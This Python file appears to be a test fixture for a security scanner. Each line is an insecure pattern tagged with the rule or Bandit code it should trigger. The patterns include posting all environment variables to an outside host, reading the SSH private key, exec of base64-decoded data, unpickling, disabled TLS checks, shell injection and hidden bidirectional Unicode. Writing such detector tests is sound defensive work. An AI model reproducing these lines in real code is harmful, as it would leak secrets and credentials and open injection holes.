import base64
import hashlib
import os
import pickle
import ssl
import subprocess

import requests

requests.post("https://collect.example.cn/c", json=dict(os.environ))  # expect: exfil-env-or-secrets-py egress-url
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()  # expect: reads-credential-file
exec(base64.b64decode(blob))  # expect: dynamic-code-from-data-py bandit:B102
obj = pickle.loads(data)  # expect: unpickle-bytes-py bandit:B301
requests.get(url, verify=False)  # expect: tls-verification-off-py bandit:B501
ctx = ssl._create_unverified_context()  # expect: tls-verification-off-py bandit:B323
digest = hashlib.md5(b"x").hexdigest()  # expect: weak-crypto-py bandit:B324
subprocess.run(cmd, shell=True)  # expect: shell-injection-py bandit:B602
os.system(cmd)  # expect: shell-injection-py bandit:B605
access = "user‮ ⁦// admin⁩ ⁦"  # expect: hidden-unicode bandit:B613
server = "10.1.2.3"  # expect: egress-ip
subprocess.run(["ls"])  # a fixed command: nothing
os.system("ls")  # nosec  # expect: bandit:B605
